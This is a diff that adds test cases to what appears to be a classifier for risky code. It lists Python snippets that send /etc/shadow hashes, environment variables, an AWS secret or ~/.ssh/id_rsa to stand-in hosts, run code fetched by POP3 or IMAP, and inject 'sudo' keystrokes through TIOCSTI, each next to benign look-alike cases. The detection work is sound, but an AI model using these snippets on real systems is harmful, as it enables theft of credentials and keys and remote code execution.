@@ -700,5 +700,43 @@ TEST(CoverageClasses, DownloadedLibrariesAndPingPayloads) {
   for (const auto& c : cases) check(c);
 }
 
+// Standard-library spellings the audit found missing: spwd reads
+// /etc/shadow, mail fetched by POP3 or IMAP comes from the network, a URL
+// given to the browser is requested, TIOCSTI types into a terminal, and
+// httplib2's and tornado's HTTP clients request what they are given.
+TEST(CoverageClasses, MoreStandardAndClientSpellings) {
+  const Case cases[] = {
+      {"spwd's hashes sent", B,
+       "import spwd, requests\nrequests.post('http://198.51.100.9/h', json=[(e.sp_namp, e.sp_pwdp) for e in spwd.getspall()])\n",
+       "EXFILTRATION"},
+      {"spwd read", H, "import spwd\nprint(spwd.getspnam('root').sp_lstchg)\n", "READS-PASSWORD-HASHES"},
+      {"commands by POP3", B,
+       "import poplib, subprocess\nm = poplib.POP3_SSL('pop.example.org')\nresp, lines, octets = m.retr(1)\n"
+       "subprocess.run(lines[-1].decode(), shell=True)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"code by IMAP", B,
+       "import imaplib\nm = imaplib.IMAP4_SSL('imap.example.org')\ntyp, data = m.fetch(b'1', '(BODY[TEXT])')\nexec(data[0][1])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a secret in a URL opened by the browser", B,
+       "import os, webbrowser\nwebbrowser.open('https://collect.example.org/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n", "EXFILTRATION"},
+      {"TIOCSTI", H, "import fcntl, termios\nfor c in 'sudo -S id\\n':\n    fcntl.ioctl(0, termios.TIOCSTI, c)\n",
+       "PRIVILEGE-ESCALATION"},
+      {"httplib2 POST of the environment", B,
+       "import os, json, httplib2\nhttplib2.Http().request('http://198.51.100.9/e', 'POST', body=json.dumps(dict(os.environ)))\n",
+       "EXFILTRATION"},
+      {"tornado fetch POST of a key", B,
+       "import os\nfrom tornado.httpclient import AsyncHTTPClient\nasync def go():\n"
+       "    await AsyncHTTPClient().fetch('http://198.51.100.9/k', method='POST', body=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+       "EXFILTRATION"},
+      // Neighbours: documentation opened, mail counted, a window size asked of the terminal, a GET.
+      {"documentation opened in the browser", L, "import webbrowser\nwebbrowser.open('https://docs.python.org/3/')\n"},
+      {"mail counted", L, "import poplib\nm = poplib.POP3_SSL('pop.example.org')\nprint(m.stat())\n"},
+      {"the terminal's size", L,
+       "import fcntl, termios, struct\nprint(struct.unpack('hh', fcntl.ioctl(0, termios.TIOCGWINSZ, b'1234')))\n"},
+      {"httplib2 GET", L, "import httplib2\nresp, content = httplib2.Http().request('https://example.com/')\nprint(resp.status)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
